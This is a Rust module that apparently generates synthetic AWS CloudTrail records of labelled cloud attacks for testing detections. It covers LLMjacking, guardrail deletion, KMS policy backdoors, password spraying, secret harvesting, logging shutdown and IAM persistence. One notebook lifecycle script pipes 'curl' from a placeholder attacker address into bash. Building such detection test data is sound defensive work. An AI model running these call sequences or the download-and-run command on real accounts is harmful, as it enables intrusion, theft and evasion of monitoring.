//! Attacks injected on the last simulated day, one or more per family the detections cover.
//! Each attack is labelled with the eventIDs of its records.

use chrono::NaiveDate;
use rand::Rng;
use serde::Serialize;
use serde_json::json;

use super::activity::{name_of, Account, MAIN_REGION};
use super::call::{Call, Record};
use super::identity::{access_key, Actor, Principal};

/// The account the attackers use for back doors.
pub const ATTACKER_ACCOUNT: &str = "999988887777";
/// Where the attackers connect from.
pub const ATTACKER_IP: &str = "192.0.2.66";
const KALI_UA: &str = "aws-cli/2.13.25 Python/3.11.5 Linux/6.5.0-kali3-amd64 exe/x86_64.kali.2023 prompt/off command/iam.create-access-key";
const BOTO_UA: &str = "Boto3/1.34.11 md/Botocore#1.34.11 ua/2.0 os/linux#6.1.0-17-cloud-amd64 md/arch#x86_64 lang/python#3.11.2 md/pyimpl#CPython cfg/retry-mode#legacy Botocore/1.34.11";

/// One injected attack and the records it consists of.
#[derive(Debug, Clone, Serialize)]
pub struct Label {
    pub id: String,
    pub family: &'static str,
    pub technique: &'static str,
    pub description: String,
    pub account: String,
    #[serde(rename = "eventIds")]
    pub event_ids: Vec<String>,
}

struct Scenario<'a> {
    rng: &'a mut dyn rand::RngCore,
    t: i64,
    records: Vec<Record>,
}

impl Scenario<'_> {
    fn push(&mut self, call: Call<'_>) {
        self.push_within(call, 2_000_000..40_000_000);
    }

    /// Adds a call made a random time in `gap` (microseconds) after the previous one.
    fn push_within(&mut self, call: Call<'_>, gap: std::ops::Range<i64>) {
        self.t += self.rng.random_range(gap);
        let record = call.render(self.t, &mut self.rng);
        self.records.push(record);
    }
}

/// Days of history statistical detections need before the attacks only they find: the
/// learning period (7 days) and an entity's own history (2 days).
pub const BEHAVIOUR_DAYS: u32 = 9;

fn attacker_role(
    acct: &Account,
    rng: &mut dyn rand::RngCore,
    role: &str,
    session: &str,
    ua: &str,
) -> Actor {
    Actor {
        account: acct.id.clone(),
        principal: Principal::Role {
            role: role.into(),
            session: session.into(),
            key: access_key(rng, "ASIA"),
            ec2: false,
            issued_to: None,
            mfa: false,
        },
        source_ip: ATTACKER_IP.into(),
        user_agent: ua.into(),
        vpc_endpoint: None,
        console: false,
    }
}

/// All attacks for the last day, against the first account (and the ML account where there is one).
pub fn attacks(
    rng: &mut impl Rng,
    accounts: &[Account],
    day: NaiveDate,
    days: u32,
    scale: f64,
) -> (Vec<Record>, Vec<Label>) {
    let prod = &accounts[0];
    let ml = accounts
        .iter()
        .find(|a| a.name == "ml-platform")
        .unwrap_or(prod);
    let start = |hour: u32| {
        day.and_hms_opt(hour, 7, 0)
            .expect("valid")
            .and_utc()
            .timestamp_micros()
    };
    let mut records = Vec::new();
    let mut labels = Vec::new();
    let mut run = |rng: &mut dyn rand::RngCore,
                   id: &str,
                   family: &'static str,
                   technique: &'static str,
                   description: &str,
                   acct: &Account,
                   hour: u32,
                   f: &dyn Fn(&mut Scenario<'_>)| {
        let mut s = Scenario {
            rng,
            t: start(hour),
            records: Vec::new(),
        };
        f(&mut s);
        labels.push(Label {
            id: id.into(),
            family,
            technique,
            description: description.into(),
            account: acct.id.clone(),
            event_ids: s.records.iter().map(|r| r.event_id.clone()).collect(),
        });
        records.extend(s.records);
    };
    let rng: &mut dyn rand::RngCore = rng;

    // 1. LLMjacking: the backup user's long-term key, leaked, used from a VPS to enable and abuse models.
    let mut leaked = prod.backup.clone();
    leaked.source_ip = ATTACKER_IP.into();
    leaked.user_agent = BOTO_UA.into();
    run(rng, "llmjacking", "model-access", "T1496", "A leaked access key turns off model invocation logging, enables model access and invokes models in bulk", prod, 3, &|s| {
        let a = &leaked;
        s.push(Call::new(a, "sts.amazonaws.com", "GetCallerIdentity", MAIN_REGION).req(json!({})));
        s.push(Call::new(a, "bedrock.amazonaws.com", "ListFoundationModels", MAIN_REGION).req(json!({})));
        s.push(Call::new(a, "bedrock.amazonaws.com", "GetFoundationModelAvailability", MAIN_REGION).req(json!({"modelId": "anthropic.claude-3-opus-20240229-v1:0"})));
        s.push(Call::new(a, "bedrock.amazonaws.com", "GetModelInvocationLoggingConfiguration", MAIN_REGION).req(json!({})));
        s.push(Call::new(a, "bedrock.amazonaws.com", "DeleteModelInvocationLoggingConfiguration", MAIN_REGION).write().req(json!({})));
        s.push(Call::new(a, "bedrock.amazonaws.com", "PutUseCaseForModelAccess", MAIN_REGION).write().req(json!({"formData": "eyJjb21wYW55TmFtZSI6IkFjbWUiLCJpbnRlbmRlZFVzZXJzIjoiMCJ9"})));
        s.push(Call::new(a, "bedrock.amazonaws.com", "CreateFoundationModelAgreement", MAIN_REGION).write().req(json!({"modelId": "anthropic.claude-3-opus-20240229-v1:0", "offerToken": "OfferToken-1"})).resp(json!({"modelId": "anthropic.claude-3-opus-20240229-v1:0"})));
        for i in 0..40 {
            let mut c = Call::new(a, "bedrock.amazonaws.com", "InvokeModel", MAIN_REGION).req(json!({"modelId": "anthropic.claude-3-opus-20240229-v1:0"})).resource(format!("arn:aws:bedrock:{MAIN_REGION}::foundation-model/anthropic.claude-3-opus-20240229-v1:0"), "AWS::Bedrock::FoundationModel");
            if i % 9 == 4 {
                c = c.error("AccessDeniedException", "You don't have access to the model with the specified model ID.");
            }
            s.push(c);
        }
    });

    // 2. Guardrails removed by a compromised developer session.
    let dev = attacker_role(prod, rng, "developer", "bob", BOTO_UA);
    run(
        rng,
        "guardrail-removal",
        "model-access",
        "T1562",
        "A guardrail is weakened, then deleted",
        prod,
        4,
        &|s| {
            let gr = format!(
                "arn:aws:bedrock:{MAIN_REGION}:{}:guardrail/gr7x2k9q1m3n",
                prod.id
            );
            s.push(Call::new(&dev, "bedrock.amazonaws.com", "UpdateGuardrail", MAIN_REGION).write().req(json!({"guardrailIdentifier": gr, "name": "chat-safety", "contentPolicyConfig": {"filtersConfig": []}, "blockedInputMessaging": "Sorry.", "blockedOutputsMessaging": "Sorry."})));
            s.push(
                Call::new(
                    &dev,
                    "bedrock.amazonaws.com",
                    "DeleteGuardrail",
                    MAIN_REGION,
                )
                .write()
                .req(json!({"guardrailIdentifier": gr})),
            );
        },
    );

    // 3. SageMaker: a notebook that downloads and runs a script, with internet and root, opened from outside.
    let sm = attacker_role(
        ml,
        rng,
        "AWSReservedSSO_DataScientist_5c2a9e1b7f3d4a60",
        "mallory@example.com",
        BOTO_UA,
    );
    run(rng, "sagemaker-notebook-backdoor", "model-access", "T1059", "A notebook lifecycle configuration downloads and runs a script; the notebook has internet and root access and is opened from outside", ml, 5, &|s| {
        use base64::Engine;
        let script = base64::engine::general_purpose::STANDARD.encode(format!("#!/bin/bash\ncurl -s http://{ATTACKER_IP}/x.sh | bash\n").as_bytes());
        s.push(Call::new(&sm, "sagemaker.amazonaws.com", "CreateNotebookInstanceLifecycleConfig", MAIN_REGION).write().req(json!({"notebookInstanceLifecycleConfigName": "nb-setup", "onStart": [{"content": script}]})));
        s.push(Call::new(&sm, "sagemaker.amazonaws.com", "CreateNotebookInstance", MAIN_REGION).write().req(json!({"notebookInstanceName": "nb-setup-1", "instanceType": "ml.t3.medium", "roleArn": format!("arn:aws:iam::{}:role/SageMakerExecution", ml.id), "lifecycleConfigName": "nb-setup", "directInternetAccess": "Enabled", "rootAccess": "Enabled"})));
        s.push(Call::new(&sm, "sagemaker.amazonaws.com", "CreatePresignedNotebookInstanceUrl", MAIN_REGION).req(json!({"notebookInstanceName": "nb-setup-1"})));
        s.push(Call::new(&sm, "sagemaker.amazonaws.com", "CreateModel", MAIN_REGION).write().req(json!({"modelName": "helper", "primaryContainer": {"image": format!("{ATTACKER_ACCOUNT}.dkr.ecr.{MAIN_REGION}.amazonaws.com/helper:latest")}, "executionRoleArn": format!("arn:aws:iam::{}:role/SageMakerExecution", ml.id)})));
        s.push(Call::new(&sm, "sagemaker.amazonaws.com", "CreateEndpointConfig", MAIN_REGION).write().req(json!({"endpointConfigName": "helper-config", "productionVariants": [{"variantName": "main", "modelName": "helper", "instanceType": "ml.m5.large", "initialInstanceCount": 1}], "dataCaptureConfig": {"enableCapture": true, "initialSamplingPercentage": 100, "destinationS3Uri": "s3://totally-external-capture-bucket/capture", "captureOptions": [{"captureMode": "Input"}, {"captureMode": "Output"}]}})));
        s.push(Call::new(&sm, "sagemaker.amazonaws.com", "CreateTrainingJob", MAIN_REGION).write().req(json!({"trainingJobName": "helper-train", "algorithmSpecification": {"trainingImage": format!("{ATTACKER_ACCOUNT}.dkr.ecr.{MAIN_REGION}.amazonaws.com/helper:latest"), "trainingInputMode": "File"}, "roleArn": format!("arn:aws:iam::{}:role/SageMakerExecution", ml.id), "enableNetworkIsolation": false, "enableInterContainerTrafficEncryption": false})));
        s.push(Call::new(&sm, "bedrock.amazonaws.com", "CreateModelImportJob", MAIN_REGION).write().req(json!({"jobName": "import-1", "importedModelName": "helper-llm", "roleArn": format!("arn:aws:iam::{}:role/BedrockImport", ml.id), "modelDataSource": {"s3DataSource": {"s3Uri": "s3://public-model-drop-77/weights/"}}})));
    });

    // 4. Key policy: an outside account and a wildcard are granted the key; then it is scheduled for deletion.
    let admin = attacker_role(prod, rng, "AdminRole", "maint", BOTO_UA);
    run(rng, "kms-key-backdoor", "key-policy", "T1098", "The data key's policy is opened to an outside account and to everyone; grants to outsiders; rotation off; deletion scheduled", prod, 6, &|s| {
        let policy = format!("{{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Sid\":\"Enable IAM User Permissions\",\"Effect\":\"Allow\",\"Principal\":{{\"AWS\":\"arn:aws:iam::{}:root\"}},\"Action\":\"kms:*\",\"Resource\":\"*\"}},{{\"Sid\":\"x\",\"Effect\":\"Allow\",\"Principal\":{{\"AWS\":[\"arn:aws:iam::{ATTACKER_ACCOUNT}:root\",\"*\"]}},\"Action\":[\"kms:Decrypt\",\"kms:CreateGrant\"],\"Resource\":\"*\"}}]}}", prod.id);
        let key = &prod.key_arn;
        s.push(Call::new(&admin, "kms.amazonaws.com", "PutKeyPolicy", MAIN_REGION).write().req(json!({"keyId": key, "policyName": "default", "policy": policy, "bypassPolicyLockoutSafetyCheck": false})).resource(key.clone(), "AWS::KMS::Key"));
        s.push(Call::new(&admin, "kms.amazonaws.com", "CreateGrant", MAIN_REGION).write().req(json!({"keyId": key, "granteePrincipal": format!("arn:aws:iam::{ATTACKER_ACCOUNT}:role/loot"), "operations": ["Decrypt", "GenerateDataKey"]})).resp(json!({"grantId": "0c2d1f3e"})).resource(key.clone(), "AWS::KMS::Key"));
        s.push(Call::new(&admin, "kms.amazonaws.com", "DisableKeyRotation", MAIN_REGION).write().req(json!({"keyId": key})).resource(key.clone(), "AWS::KMS::Key"));
        s.push(Call::new(&admin, "kms.amazonaws.com", "ScheduleKeyDeletion", MAIN_REGION).write().req(json!({"keyId": key, "pendingWindowInDays": 7})).resp(json!({"keyId": key, "deletionDate": "Jan 1, 2030, 12:00:00 AM", "keyState": "PendingDeletion", "pendingWindowInDays": 7})).resource(key.clone(), "AWS::KMS::Key"));
        s.push(Call::new(&admin, "s3.amazonaws.com", "DeleteBucketEncryption", MAIN_REGION).write().req(json!({"bucketName": prod.buckets[2], "Host": format!("{}.s3.amazonaws.com", prod.buckets[2]), "encryption": ""})));
        s.push(Call::new(&admin, "ec2.amazonaws.com", "DisableEbsEncryptionByDefault", MAIN_REGION).write().req(json!({})).resp(json!({"ebsEncryptionByDefault": false})));
    });

    // 5. Credential misuse: a password spray, root without MFA, keys for another user, secrets harvested.
    let root = Actor {
        account: prod.id.clone(),
        principal: Principal::Root,
        source_ip: ATTACKER_IP.into(),
        user_agent: super::activity::CONSOLE_UA.into(),
        vpc_endpoint: None,
        console: false,
    };
    let victim = prod.humans[0].clone();
    let mut sprayer = victim.clone();
    sprayer.source_ip = ATTACKER_IP.into();
    sprayer.console = false;
    let mut kali = attacker_role(prod, rng, "AdminRole", "maint", KALI_UA);
    kali.user_agent = KALI_UA.into();
    run(rng, "credential-misuse", "credential-misuse", "T1078", "Failed sign-ins burst, root signs in without MFA and creates a key, keys and a password are made for another user, secrets are read in bulk", prod, 7, &|s| {
        for _ in 0..25 {
            s.t -= 35_000_000;
            s.push(Call::new(&sprayer, "signin.amazonaws.com", "ConsoleLogin", MAIN_REGION).write().event_type("AwsConsoleSignIn").error("Failed authentication", "Failed authentication").resp(json!({"ConsoleLogin": "Failure"})).additional(json!({"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"})));
        }
        s.push(Call::new(&root, "signin.amazonaws.com", "ConsoleLogin", MAIN_REGION).write().event_type("AwsConsoleSignIn").resp(json!({"ConsoleLogin": "Success"})).additional(json!({"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": "No"})));
        s.push(Call::new(&root, "iam.amazonaws.com", "CreateAccessKey", MAIN_REGION).write().req(json!({})).resp(json!({"accessKey": {"accessKeyId": "AKIAEXAMPLEROOTKEY01", "status": "Active", "userName": prod.id.clone(), "createDate": "Jan 1, 2030"}})));
        s.push(Call::new(&kali, "iam.amazonaws.com", "CreateAccessKey", MAIN_REGION).write().req(json!({"userName": name_of(&victim)})).resp(json!({"accessKey": {"accessKeyId": "AKIAEXAMPLEVICTIM01", "status": "Active", "userName": name_of(&victim)}})));
        s.push(Call::new(&kali, "iam.amazonaws.com", "CreateLoginProfile", MAIN_REGION).write().req(json!({"userName": "svc-backup", "passwordResetRequired": false})));
        s.push(Call::new(&kali, "sts.amazonaws.com", "GetFederationToken", MAIN_REGION).req(json!({"name": "persist", "durationSeconds": 129600, "policy": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}"})));
        for secret in &prod.secrets {
            s.push(Call::new(&kali, "secretsmanager.amazonaws.com", "GetSecretValue", MAIN_REGION).req(json!({"secretId": format!("arn:aws:secretsmanager:{MAIN_REGION}:{}:secret:{secret}", prod.id)})));
        }
        for i in 0..14 {
            s.push(Call::new(&kali, "ssm.amazonaws.com", "GetParameter", MAIN_REGION).req(json!({"name": format!("/prod/db/password-{i}"), "withDecryption": true})));
        }
        s.push(Call::new(&kali, "ec2.amazonaws.com", "GetPasswordData", MAIN_REGION).req(json!({"instanceId": "i-0a1b2c3d4e5f60718"})));
        for _ in 0..20 {
            s.t -= 30_000_000;
            s.push(Call::new(&kali, "iam.amazonaws.com", "ListUsers", MAIN_REGION).req(json!({})).error("AccessDenied", format!("User: arn:aws:sts::{}:assumed-role/AdminRole/maint is not authorized to perform: iam:ListUsers", prod.id)));
        }
    });

    // 6. Logging and monitoring switched off.
    run(rng, "logging-tampering", "logging-tampering", "T1562.008", "The trail is narrowed, stopped and deleted; GuardDuty, Config, flow logs, Security Hub and S3 access logging are switched off", prod, 8, &|s| {
        let trail = format!("arn:aws:cloudtrail:{MAIN_REGION}:{}:trail/org-trail", prod.id);
        s.push(Call::new(&admin, "cloudtrail.amazonaws.com", "PutEventSelectors", MAIN_REGION).write().req(json!({"trailName": trail, "eventSelectors": [{"readWriteType": "ReadOnly", "includeManagementEvents": false, "dataResources": [], "excludeManagementEventSources": []}]})));
        s.push(Call::new(&admin, "cloudtrail.amazonaws.com", "UpdateTrail", MAIN_REGION).write().req(json!({"name": trail, "isMultiRegionTrail": false, "includeGlobalServiceEvents": false})));
        s.push(Call::new(&admin, "cloudtrail.amazonaws.com", "StopLogging", MAIN_REGION).write().req(json!({"name": trail})));
        s.push(Call::new(&admin, "cloudtrail.amazonaws.com", "DeleteTrail", MAIN_REGION).write().req(json!({"name": trail})));
        s.push(Call::new(&admin, "guardduty.amazonaws.com", "UpdateIPSet", MAIN_REGION).write().req(json!({"detectorId": "12abc34d567e8fa901bc2d34e56789f0", "ipSetId": "0", "location": "https://s3.amazonaws.com/x/trusted.txt", "activate": true})));
        s.push(Call::new(&admin, "guardduty.amazonaws.com", "DeleteDetector", MAIN_REGION).write().req(json!({"detectorId": "12abc34d567e8fa901bc2d34e56789f0"})));
        s.push(Call::new(&admin, "config.amazonaws.com", "StopConfigurationRecorder", MAIN_REGION).write().req(json!({"configurationRecorderName": "default"})));
        s.push(Call::new(&admin, "ec2.amazonaws.com", "DeleteFlowLogs", MAIN_REGION).write().req(json!({"DeleteFlowLogsRequest": {"FlowLogId": {"content": "fl-0123456789abcdef0", "tag": 1}}})));
        s.push(Call::new(&admin, "securityhub.amazonaws.com", "DisableSecurityHub", MAIN_REGION).write().req(json!({})));
        s.push(Call::new(&admin, "s3.amazonaws.com", "PutBucketLogging", MAIN_REGION).write().req(json!({"bucketName": prod.buckets[0], "Host": format!("{}.s3.amazonaws.com", prod.buckets[0]), "BucketLoggingStatus": {"xmlns": "http://s3.amazonaws.com/doc/2006-03-01/"}, "logging": ""})));
    });

    // 7. IAM: an administrator made outside the pipeline, a trust policy opened, a policy version swapped.
    run(rng, "iam-persistence", "iam-change", "T1136.003", "A new user made outside the pipeline gets administrator access; a role trusts an outside account; a permissive policy version becomes default", prod, 9, &|s| {
        s.push(Call::new(&dev, "iam.amazonaws.com", "CreateUser", MAIN_REGION).write().req(json!({"userName": "support-admin"})).resp(json!({"user": {"userName": "support-admin", "path": "/", "arn": format!("arn:aws:iam::{}:user/support-admin", prod.id)}})));
        s.push(Call::new(&dev, "iam.amazonaws.com", "AttachUserPolicy", MAIN_REGION).write().req(json!({"userName": "support-admin", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"})));
        s.push(Call::new(&dev, "iam.amazonaws.com", "UpdateAssumeRolePolicy", MAIN_REGION).write().req(json!({"roleName": "AdminRole", "policyDocument": format!("{{\"Version\":\"2012-10-17\",\"Statement\":[{{\"Effect\":\"Allow\",\"Principal\":{{\"AWS\":\"arn:aws:iam::{ATTACKER_ACCOUNT}:root\"}},\"Action\":\"sts:AssumeRole\"}}]}}")})));
        s.push(Call::new(&dev, "iam.amazonaws.com", "CreatePolicyVersion", MAIN_REGION).write().req(json!({"policyArn": format!("arn:aws:iam::{}:policy/developer-boundary", prod.id), "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"*\",\"Resource\":\"*\"}]}", "setAsDefault": true})));
    });
    if days < BEHAVIOUR_DAYS {
        return (records, labels);
    }

    // Attacks made of routine-looking calls, found by what each principal usually does.
    let other = accounts.get(2).unwrap_or(prod);
    let opus = "anthropic.claude-3-opus-20240229-v1:0";
    let model_arn = format!("arn:aws:bedrock:{MAIN_REGION}::foundation-model/{opus}");

    // 8. The CI role's session key, leaked from a build log, used to look up and invoke models.
    let mut ci = other.ci.clone();
    ci.source_ip = ATTACKER_IP.into();
    ci.user_agent = BOTO_UA.into();
    run(rng, "stolen-ci-key-llmjacking", "model-access", "T1496.004", "The deploy pipeline's key, never used with Bedrock, looks up models and invokes one in a burst", other, 11, &|s| {
        s.push(Call::new(&ci, "sts.amazonaws.com", "GetCallerIdentity", MAIN_REGION).req(json!({})));
        s.push(Call::new(&ci, "bedrock.amazonaws.com", "ListFoundationModels", MAIN_REGION).req(json!({"byOutputModality": "TEXT"})));
        s.push(Call::new(&ci, "bedrock.amazonaws.com", "GetFoundationModelAvailability", MAIN_REGION).req(json!({"modelId": opus})));
        for _ in 0..45 {
            let mut c = Call::new(&ci, "bedrock.amazonaws.com", "InvokeModel", MAIN_REGION).req(json!({"modelId": opus})).resource(model_arn.clone(), "AWS::Bedrock::FoundationModel");
            c.read_only = true;
            s.push_within(c, 1_000_000..12_000_000);
        }
    });

    // 9. An instance's role credentials, taken from its metadata service, used from outside.
    let mut stolen = prod.instances[0].clone();
    stolen.source_ip = ATTACKER_IP.into();
    stolen.user_agent = BOTO_UA.into();
    run(rng, "instance-credential-exfiltration", "credential-misuse", "T1552.005", "A batch instance's role credentials are used from an outside address to look around and read", prod, 12, &|s| {
        s.push(Call::new(&stolen, "sts.amazonaws.com", "GetCallerIdentity", MAIN_REGION).req(json!({})));
        s.push(Call::new(&stolen, "s3.amazonaws.com", "ListBuckets", MAIN_REGION).req(json!({"Host": "s3.amazonaws.com"})));
        s.push(Call::new(&stolen, "iam.amazonaws.com", "ListAttachedRolePolicies", MAIN_REGION).req(json!({"roleName": "batch-worker-instance"})));
        s.push(Call::new(&stolen, "secretsmanager.amazonaws.com", "ListSecrets", MAIN_REGION).req(json!({})));
    });

    // 10. The ML application's own role invoking a model it never used, fifty times its rate.
    let app_account = accounts.get(1).unwrap_or(prod);
    let app = app_account.app.clone();
    let burst = ((300.0 * scale).round() as usize).max(300);
    run(rng, "app-invocation-spike", "model-access", "T1496.004", "The application role invokes a model it never used, at fifty times its usual rate for the hour", app_account, 3, &|s| {
        for _ in 0..burst {
            let mut c = Call::new(&app, "bedrock.amazonaws.com", "InvokeModel", MAIN_REGION).req(json!({"modelId": opus})).resource(model_arn.clone(), "AWS::Bedrock::FoundationModel");
            c.read_only = true;
            s.push_within(c, 200_000..3_000_000);
        }
    });

    // 11. The backup user's long-term key, from a new place, grants itself more and a new key.
    let mut backup = other.backup.clone();
    backup.source_ip = ATTACKER_IP.into();
    backup.user_agent = BOTO_UA.into();
    run(rng, "new-place-privilege-change", "credential-misuse", "T1098", "The backup user's key is used from a new network and grants its user broader S3 access and a second key", other, 13, &|s| {
        s.push(Call::new(&backup, "iam.amazonaws.com", "ListAttachedUserPolicies", MAIN_REGION).req(json!({"userName": "svc-backup"})));
        s.push(Call::new(&backup, "iam.amazonaws.com", "PutUserPolicy", MAIN_REGION).write().req(json!({"userName": "svc-backup", "policyName": "backup-extra", "policyDocument": "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"s3:*\",\"Resource\":\"*\"}]}"})));
        s.push(Call::new(&backup, "iam.amazonaws.com", "CreateAccessKey", MAIN_REGION).write().req(json!({"userName": "svc-backup"})).resp(json!({"accessKey": {"accessKeyId": "AKIAEXAMPLEBACKUP02", "status": "Active", "userName": "svc-backup"}})));
    });
    (records, labels)
}
